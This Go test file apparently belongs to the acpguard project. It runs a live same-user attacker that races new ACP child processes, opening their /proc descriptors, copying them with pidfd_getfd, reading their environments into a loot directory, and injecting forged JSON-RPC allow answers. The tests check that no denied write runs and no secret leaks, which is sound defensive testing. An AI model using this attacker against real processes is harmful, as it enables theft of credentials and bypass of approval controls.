// channel_race_test.go runs the same-user attack on serve's private channel
// for real: serve, its ACP children and an attacking process all run as one
// ordinary user (65534), and the attacker races every new child, from its
// execve until it hides itself, for its descriptors and its environment,
// while the host asks each child for a write that the provider denies.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// The attack, as a tool running attacker code would run it.
const (
	// attackFDs are the descriptors tried with pidfd_getfd.
	attackFDs = 9
	// attackWindow is how long the attacker keeps trying one child: far
	// longer than the child takes to hide itself.
	attackWindow = 50 * time.Millisecond
	// attackWrites is how long it keeps writing forged answers to what it
	// got, so that one lands while the child waits for a decision.
	attackWrites = 3 * time.Second
	// attackPatience is when the patient thief starts writing.
	attackPatience = 400 * time.Millisecond
	// attackReadMax bounds what it keeps from one descriptor.
	attackReadMax = 4 << 20
	// pidfd_getfd's Linux system call number (pidfd_open's is reaper.go's),
	// the same on amd64 and arm64.
	sysPidfdGetfd = 438
)

// attackReport is one line the attacker prints per child it raced.
type attackReport struct {
	PID     int      `json:"pid"`
	Opened  []string `json:"opened"`  // /proc/<pid>/fd/N opened for writing
	Copied  []int    `json:"copied"`  // descriptors copied with pidfd_getfd
	Environ bool     `json:"environ"` // /proc/<pid>/environ was read
	Read    bool     `json:"read"`    // descriptors it got were read too
	Errors  []string `json:"errors"`  // the last error of each kind of try
}

// forgedAllows are the answers a child would take as allows for its first
// twenty calls, in one write (under PIPE_BUF, so whole in a pipe).
var forgedAllows = func() []byte {
	var b bytes.Buffer
	for id := 1; id <= 20; id++ {
		fmt.Fprintf(&b, `{"jsonrpc":"2.0","id":%d,"result":{"allowed":true}}`+"\n", id)
	}
	return b.Bytes()
}()

// runChannelAttacker watches /proc for new "acp" children of this very
// binary and races each one. It prints "ready" once it knows the processes
// that were there before it, then one attackReport per child.
func runChannelAttacker(out string) int {
	self, err := os.Executable()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	var outMu sync.Mutex
	enc := json.NewEncoder(os.Stdout)
	report := func(v any) {
		outMu.Lock()
		defer outMu.Unlock()
		enc.Encode(v)
	}
	seen := map[int]bool{}
	highest := 0
	scan := func(mark bool) {
		names, _ := readDirNames("/proc")
		for _, n := range names {
			pid, err := strconv.Atoi(n)
			if err != nil || seen[pid] {
				continue
			}
			seen[pid] = true
			highest = max(highest, pid)
			if mark {
				go watchChild(pid, self, out, report)
			}
		}
	}
	scan(false)
	report("ready")
	lastScan := time.Now()
	for {
		// New processes mostly take the next pids: probe them directly,
		// and scan /proc whole now and then for the rest.
		top := highest
		for pid := highest + 1; pid <= highest+64; pid++ {
			if seen[pid] {
				continue
			}
			if _, err := os.Stat("/proc/" + strconv.Itoa(pid)); err == nil {
				seen[pid] = true
				top = max(top, pid)
				go watchChild(pid, self, out, report)
			}
		}
		highest = top
		if time.Since(lastScan) > 20*time.Millisecond {
			scan(true)
			lastScan = time.Now()
		}
		time.Sleep(50 * time.Microsecond)
	}
}

// attacked counts the children raced. The attacker plays two thieves in
// turn. The eager one reads what it got and writes at once: it takes
// messages meant for the child, and its forged answers meet the child's
// start-up. The patient one only writes, from attackPatience on, when the
// child is likely waiting for a decision.
var attacked atomic.Int64

// watchChild waits for pid, a new process or thread, to be an "acp" child
// of binary self (a child forked by serve shows serve's command line until
// its execve), then attacks it.
func watchChild(pid int, self, out string, report func(any)) {
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil || !bytes.Contains(status, []byte(fmt.Sprintf("\nTgid:\t%d\n", pid))) {
		return // gone, or a thread
	}
	deadline := time.Now().Add(attackWindow)
	for time.Now().Before(deadline) {
		cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			return
		}
		args := strings.Split(string(cmdline), "\x00")
		if len(args) < 2 || args[0] != self {
			return
		}
		if args[1] == "acp" {
			report(attackChild(pid, out, attacked.Add(1)%2 == 0))
			return
		}
	}
}

// attackChild tries everything at once, again and again, until it has it
// all or the window is over.
func attackChild(pid int, out string, read bool) attackReport {
	rep := attackReport{PID: pid, Read: read}
	errs := map[string]error{}
	opened := map[int]bool{}
	copied := map[int]bool{}
	pidfd := -1
	deadline := time.Now().Add(attackWindow)
	for time.Now().Before(deadline) {
		for n := range 2 {
			if opened[n] {
				continue
			}
			f, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/%d", pid, n), os.O_WRONLY, 0)
			if err != nil {
				errs[fmt.Sprintf("open fd/%d", n)] = err
				continue
			}
			opened[n] = true
			rep.Opened = append(rep.Opened, fmt.Sprintf("fd/%d", n))
			go abuse(f, read, filepath.Join(out, fmt.Sprintf("%d-open-fd%d.read", pid, n)))
		}
		if pidfd < 0 {
			r, _, e := syscall.Syscall(sysPidfdOpen, uintptr(pid), 0, 0)
			if e != 0 {
				errs["pidfd_open"] = e
			} else {
				pidfd = int(r)
			}
		}
		if pidfd >= 0 {
			for n := range attackFDs {
				if copied[n] {
					continue
				}
				r, _, e := syscall.Syscall(sysPidfdGetfd, uintptr(pidfd), uintptr(n), 0)
				if e != 0 {
					errs["pidfd_getfd"] = e
					continue
				}
				copied[n] = true
				rep.Copied = append(rep.Copied, n)
				go abuse(os.NewFile(r, "stolen"), read, filepath.Join(out, fmt.Sprintf("%d-getfd%d.read", pid, n)))
			}
		}
		if !rep.Environ {
			if env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); err != nil || len(env) == 0 {
				errs["environ"] = err
			} else {
				rep.Environ = true
				os.WriteFile(filepath.Join(out, fmt.Sprintf("%d.environ", pid)), env, 0o600)
			}
		}
		if len(opened) == 2 && len(copied) == attackFDs && rep.Environ {
			break
		}
	}
	if pidfd >= 0 {
		syscall.Close(pidfd)
	}
	for what, err := range errs {
		if err != nil {
			rep.Errors = append(rep.Errors, what+": "+err.Error())
		}
	}
	return rep
}

// abuse writes forged allows to f for a while and, when read, keeps what it
// reads from it if it is a channel (a pipe or a socket; the child's own
// executable, say, is nobody's secret).
func abuse(f *os.File, read bool, keep string) {
	go func() {
		if !read {
			time.Sleep(attackPatience)
		}
		for end := time.Now().Add(attackWrites); time.Now().Before(end); time.Sleep(time.Millisecond) {
			if _, err := f.Write(forgedAllows); err != nil {
				return
			}
		}
	}()
	var st syscall.Stat_t
	if !read || syscall.Fstat(int(f.Fd()), &st) != nil || st.Mode&syscall.S_IFMT != syscall.S_IFIFO && st.Mode&syscall.S_IFMT != syscall.S_IFSOCK {
		return
	}
	out, err := os.Create(keep)
	if err != nil {
		return
	}
	defer out.Close()
	buf := make([]byte, 64<<10)
	for total := 0; total < attackReadMax; {
		n, err := f.Read(buf)
		if n > 0 {
			out.Write(buf[:n])
			total += n
		}
		if err != nil {
			return
		}
	}
}

// asNobody runs cmd as the ordinary user 65534 with no extra groups.
func asNobody(cmd *exec.Cmd) {
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534, Groups: []uint32{}}}
}

// mkdirFor makes dir, readable by everyone and owned by 65534.
func mkdirFor(t *testing.T, dir string) string {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(dir, 65534, 65534); err != nil {
		t.Fatal(err)
	}
	return dir
}

// raceServe is "acpguard serve" started as 65534 from the copied binary.
type raceServe struct {
	url    string
	cmd    *exec.Cmd
	stderr *syncBuffer
	exited chan error
}

func startServeAsNobody(t *testing.T, bin string, args, env []string) *raceServe {
	t.Helper()
	cmd := exec.Command(bin, append([]string{"serve", "--port", "0"}, args...)...)
	cmd.Env = append(append(os.Environ(), roleEnv("main"), quickRaceExit), env...)
	asNobody(cmd)
	rs := &raceServe{cmd: cmd, stderr: &syncBuffer{}, exited: make(chan error, 1)}
	cmd.Stderr = rs.stderr
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// No startup line within the bound (the attacker may read it from the
	// same pipe): the kill ends the wait and the test fails below.
	stop := time.AfterFunc(testTimeout(30*time.Second), func() { cmd.Process.Kill() })
	line, err := bufio.NewReader(stdout).ReadString('\n')
	stop.Stop()
	go func() { rs.exited <- cmd.Wait() }()
	url, ok := serveListenURL(line)
	if !ok {
		rs.stop()
		t.Fatalf("serve printed %q (%v), stderr:\n%s", line, err, rs.stderr.String())
	}
	rs.url = url
	return rs
}

func (rs *raceServe) stop() {
	rs.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-rs.exited:
	case <-time.After(testTimeout(30 * time.Second)):
		rs.cmd.Process.Kill()
		<-rs.exited
	}
}

// raceTurn is how one session of the race ended.
type raceTurn int

const (
	raceNotCreated raceTurn = iota // session creation failed: the child was ended
	raceDenied                     // the turn completed, the write was refused
	raceEnded                      // the turn or the session ended with an error
	raceRan                        // the write ran: a forged allow won
)

// racePrompt creates a session in ws, asks it for the denied write and
// waits for the turn's end.
func racePrompt(t *testing.T, client *http.Client, url, ws string) (raceTurn, string) {
	post := func(path, body string) (int, []byte, error) {
		resp, err := client.Post(url+path, "application/json", strings.NewReader(body))
		if err != nil {
			return 0, nil, err
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		return resp.StatusCode, b, err
	}
	status, body, err := post("/session", `{"sessionScope":"thread","cwd":"`+ws+`"}`)
	var created newSessionResponse
	if err != nil || status != http.StatusOK || json.Unmarshal(body, &created) != nil {
		return raceNotCreated, fmt.Sprintf("POST /session: %d %s %v", status, body, err)
	}
	resp, err := client.Get(url + "/session/" + created.SessionID + "/events")
	if err != nil {
		return raceEnded, fmt.Sprintf("GET events: %v", err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return raceEnded, fmt.Sprintf("GET events: %d", resp.StatusCode)
	}
	status, body, err = post("/session/"+created.SessionID+"/prompt",
		`{"prompt":[{"type":"text","text":"call write_file {\"file_path\":\"denied.txt\",\"content\":\"forged\"}"}]}`)
	if err != nil || status != http.StatusAccepted {
		return raceEnded, fmt.Sprintf("POST prompt: %d %s %v", status, body, err)
	}
	evs := readSSE(t, bufio.NewReader(resp.Body), func(ev sseEvent) bool {
		return ev.typ == eventTurnComplete || ev.typ == eventTurnError || ev.typ == eventSessionDied
	})
	if len(evs) == 0 || evs[len(evs)-1].typ != eventTurnComplete {
		return raceEnded, "the turn did not complete"
	}
	for _, u := range toolUpdates(t, evs) {
		if u.Status == "completed" {
			return raceRan, "write_file completed"
		}
	}
	return raceDenied, ""
}

// TestChannelRaceSameUserAttack is the attack of a tool that runs attacker
// code as serve's own user: it watches /proc for every new ACP child and,
// from the child's execve on, opens /proc/<pid>/fd/0 and 1 for writing,
// copies descriptors 0 to 8 with pidfd_getfd, reads /proc/<pid>/environ,
// and writes forged allows for call ids 1 to 20 to everything it got. Each
// child is asked for a write the provider denies. The write never runs and
// nothing the attacker read holds a secret; sessions whose child the
// attack ended are counted, not failed (fail closed).
func TestChannelRaceSameUserAttack(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to run serve, its children and the attacker as the ordinary user 65534: root reads every environment, so a root-only run proves nothing")
	}
	if testing.Short() {
		t.Skip("the race runs at least 50 children")
	}
	const (
		minRaced      = 50
		maxIterations = 200
		perServe      = 10 // workspaces, so children, per serve process
	)
	base, bin := nobodyBinary(t, "acpguard-channel-race-")
	run := mkdirFor(t, filepath.Join(base, "run"))
	loot := mkdirFor(t, filepath.Join(base, "loot"))
	settings := filepath.Join(run, "settings.json")
	if err := os.WriteFile(settings, []byte(`{"tools":{"approvalMode":"yolo"}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	modelKey := "sk-race-" + randomHex(randomIDBytes)

	prov := &testProvider{token: "provider-" + randomHex(randomIDBytes), verdict: func(tool string, _ json.RawMessage) (int, bool, string) {
		// Slow enough that a forged answer written meanwhile would win.
		time.Sleep(300 * time.Millisecond)
		return 200, tool != "write_file", "writes are denied in this test"
	}}
	prov.srv = httptest.NewServer(http.HandlerFunc(prov.serveHTTP))
	t.Cleanup(prov.srv.Close)

	atk := startRaceAttacker(t, bin, loot)

	client := &http.Client{Timeout: testTimeout(60 * time.Second)}
	counts := map[raceTurn]int{}
	var workspaces []string
	var serveLogs []string
	iterations := 0
	for (atk.raced.Load() < minRaced || iterations < minRaced) && iterations < maxIterations {
		batch := make([]string, perServe)
		args := []string{"--settings", settings, "--decision-log", filepath.Join(run, fmt.Sprintf("decisions-%d.jsonl", iterations)),
			"--external-tool-guard-mode", "required", "--external-tool-guard-endpoint", prov.srv.URL,
			"--initialize-timeout-ms", "3000", "--prompt-deadline-ms", "5000", "--allow-tokenless-loopback"}
		for i := range batch {
			batch[i] = mkdirFor(t, filepath.Join(run, fmt.Sprintf("ws-%d", iterations+i)))
			args = append(args, "--workspace", batch[i])
		}
		rs := startServeAsNobody(t, bin, args, []string{envGuardToken + "=" + prov.token, envModelKey + "=" + modelKey})
		for _, ws := range batch {
			got, why := racePrompt(t, client, rs.url, ws)
			counts[got]++
			if got != raceDenied && counts[got] <= 3 {
				t.Logf("workspace %s: %s", filepath.Base(ws), why)
			}
			if got == raceRan {
				t.Errorf("workspace %s: %s", ws, why)
			}
			iterations++
		}
		rs.stop()
		serveLogs = append(serveLogs, rs.stderr.String())
		workspaces = append(workspaces, batch...)
	}
	reports := atk.finish()

	for _, ws := range workspaces {
		if data, err := os.ReadFile(filepath.Join(ws, "denied.txt")); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s/denied.txt was written (%q, %v): a forged allow reached a child", ws, data, err)
		}
	}
	secrets := []string{modelKey, prov.token, envPrivateCapability + "=", "qwen-code/private-parent-capability"}
	files, err := os.ReadDir(loot)
	if err != nil {
		t.Fatal(err)
	}
	stolenBytes := 0
	for _, f := range files {
		data, err := os.ReadFile(filepath.Join(loot, f.Name()))
		if err != nil {
			t.Fatal(err)
		}
		stolenBytes += len(data)
		for _, s := range secrets {
			if bytes.Contains(data, []byte(s)) {
				t.Errorf("the attacker read %q in %s", s, f.Name())
			}
		}
	}
	var opened, copied, environs int
	for _, r := range reports {
		opened += len(r.Opened)
		copied += len(r.Copied)
		if r.Environ {
			environs++
		}
	}
	detected := strings.Count(strings.Join(serveLogs, ""), "another process wrote to an ACP child's private channel")
	t.Logf("%d sessions, %d children raced: %d descriptors opened through /proc, %d copied with pidfd_getfd, %d environments read, %d bytes read in all",
		iterations, len(reports), opened, copied, environs, stolenBytes)
	t.Logf("sessions: %d denied as the provider decided, %d not created and %d ended with an error because the attack ended their child (fail closed; serve detected %d forged writers)",
		counts[raceDenied], counts[raceNotCreated], counts[raceEnded], detected)
	if len(reports) < minRaced {
		t.Errorf("the attacker raced %d children, want at least %d", len(reports), minRaced)
	}
	if t.Failed() {
		for _, r := range reports {
			t.Logf("report %+v", r)
		}
	}
}

// nobodyBinary copies the test binary where the ordinary user 65534 can run
// it, into a fresh directory that the cleanup removes.
func nobodyBinary(t *testing.T, prefix string) (base, bin string) {
	t.Helper()
	base, err := os.MkdirTemp("", prefix)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	if err := os.Chmod(base, 0o755); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	exe, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	bin = filepath.Join(base, "acpguard")
	if err := os.WriteFile(bin, exe, 0o755); err != nil {
		t.Fatal(err)
	}
	return base, bin
}

// raceAttacker is the attacker process, running as 65534, and the reports
// it printed so far.
type raceAttacker struct {
	cmd    *exec.Cmd
	raced  atomic.Int32
	mu     sync.Mutex
	report []attackReport
}

// startRaceAttacker starts the attacker of bin, keeping what it reads in
// loot, and returns once it knows the processes that were there before.
func startRaceAttacker(t *testing.T, bin, loot string) *raceAttacker {
	t.Helper()
	atk := &raceAttacker{cmd: exec.Command(bin, "attack")}
	atk.cmd.Env = append(os.Environ(), roleEnv("channel-attacker", loot), quickRaceExit)
	asNobody(atk.cmd)
	out, err := atk.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr := &syncBuffer{}
	atk.cmd.Stderr = stderr
	if err := atk.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { atk.cmd.Process.Kill(); atk.cmd.Wait() })
	lines := bufio.NewScanner(out)
	if !lines.Scan() || lines.Text() != `"ready"` {
		t.Fatalf("attacker did not start: %q %s", lines.Text(), stderr.String())
	}
	go func() {
		for lines.Scan() {
			var r attackReport
			if json.Unmarshal(lines.Bytes(), &r) == nil && r.PID != 0 {
				atk.mu.Lock()
				atk.report = append(atk.report, r)
				atk.mu.Unlock()
				atk.raced.Add(1)
			}
		}
	}()
	return atk
}

// finish lets the last child's attack end, stops the attacker and returns
// every report.
func (atk *raceAttacker) finish() []attackReport {
	time.Sleep(2 * attackWindow)
	atk.cmd.Process.Kill()
	atk.cmd.Wait()
	atk.mu.Lock()
	defer atk.mu.Unlock()
	return slices.Clone(atk.report)
}

// TestStandaloneRaceSecretFiles races 50 standalone "acp" processes that an
// editor starts with their provider token and model key in files, not in
// their environment: the attacker, running as the same ordinary user as
// every acp, reads whatever it can of each new one and never finds either.
func TestStandaloneRaceSecretFiles(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to run acp and the attacker as the ordinary user 65534: root reads every environment, so a root-only run proves nothing")
	}
	if testing.Short() {
		t.Skip("the race runs at least 50 acp processes")
	}
	const minRaced, maxStarts = 50, 200
	base, bin := nobodyBinary(t, "acpguard-standalone-race-")
	run := mkdirFor(t, filepath.Join(base, "run"))
	loot := mkdirFor(t, filepath.Join(base, "loot"))
	prov := newTestProvider(t)
	prov.token = "provider-" + randomHex(randomIDBytes)
	modelKey := "sk-race-" + randomHex(randomIDBytes)
	secretFile := func(name, value string) string {
		f := filepath.Join(run, name)
		if err := os.WriteFile(f, []byte(value+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(f, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		return f
	}
	args := []string{"acp", "--external-tool-guard-mode", "required", "--external-tool-guard-endpoint", prov.srv.URL,
		"--external-tool-guard-token-file", secretFile("guard.token", prov.token),
		"--model-key-file", secretFile("model.key", modelKey)}

	atk := startRaceAttacker(t, bin, loot)
	starts := 0
	for (atk.raced.Load() < minRaced || starts < minRaced) && starts < maxStarts {
		starts++
		cmd := exec.Command(bin, args...)
		// What an editor gives it: an OpenAI-compatible service (never
		// called here) and no secret.
		cmd.Env = append(os.Environ(), roleEnv("main"), quickRaceExit, envModelBaseURL+"=http://127.0.0.1:9/v1", envModelName+"=race")
		cmd.Dir = run
		asNobody(cmd)
		// The attacker's copies of its stderr outlive it.
		cmd.WaitDelay = testTimeout(200 * time.Millisecond)
		stdin, err := cmd.StdinPipe()
		if err != nil {
			t.Fatal(err)
		}
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		stderr := &syncBuffer{}
		cmd.Stderr = stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// The editor's own pipes stay openable during the start-up window
		// (the sandbox keeps tools from them): the first line may be the
		// attacker's, which is no secret read. An acp that holds the
		// attacker's copy of its stdin never sees its end: it is killed
		// once it has answered.
		fmt.Fprintf(stdin, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":1}}`+"\n")
		// The attacker may read the answer from the same pipe: then no
		// line comes here, and the kill ends the wait.
		stop := time.AfterFunc(testTimeout(5*time.Second), func() { cmd.Process.Kill() })
		bufio.NewReader(stdout).ReadString('\n')
		stop.Stop()
		cmd.Process.Kill()
		cmd.Wait()
		if strings.Contains(stderr.String(), "acpguard: error:") {
			t.Fatalf("acp %d failed: %s", starts, stderr.String())
		}
	}
	reports := atk.finish()

	files, err := os.ReadDir(loot)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		data, err := os.ReadFile(filepath.Join(loot, f.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range []string{prov.token, modelKey} {
			if bytes.Contains(data, []byte(s)) {
				t.Errorf("the attacker read a secret in %s", f.Name())
			}
		}
	}
	environs := 0
	for _, r := range reports {
		if r.Environ {
			environs++
		}
	}
	t.Logf("%d acp started, %d raced, %d environments read, none with a secret", starts, len(reports), environs)
	if len(reports) < minRaced {
		t.Errorf("the attacker raced %d acp processes, want at least %d", len(reports), minRaced)
	}
}
